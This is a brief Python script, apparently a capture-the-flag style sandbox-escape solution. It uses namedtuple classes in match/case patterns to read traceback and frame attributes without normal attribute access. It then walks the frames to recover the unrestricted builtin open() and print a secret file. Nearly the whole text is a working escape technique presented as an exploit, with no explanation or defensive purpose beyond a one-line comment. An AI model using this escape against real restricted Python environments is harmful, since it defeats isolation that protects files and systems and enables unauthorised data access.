# A named tuple with a locked word as its field makes a pattern that reads frames.
from abc import ABC
from collections import namedtuple

def pattern(word, kind):
    class Pattern(namedtuple("P", word), ABC):
        pass
    Pattern.register(kind)
    return Pattern

class Catch:
    def __enter__(self):
        return self

    def __exit__(self, kind, error, trace):
        self.trace = trace
        return True

with Catch() as catch:
    namedtuple("P", "a b", module=1, defaults=5)
trace = catch.trace
Next = pattern("tb_next", type(trace))
Frame = pattern("tb_frame", type(trace))
while trace:
    match trace:
        case Frame(frame):
            Names = pattern("f_builtins", type(frame))
            match frame:
                case Names(names):
                    if type(names) is dict and "open" in names and type(names["open"]) is not type(pattern):
                        print(names["open"](SECRET_FILE).read())
    match trace:
        case Next(trace):
            pass
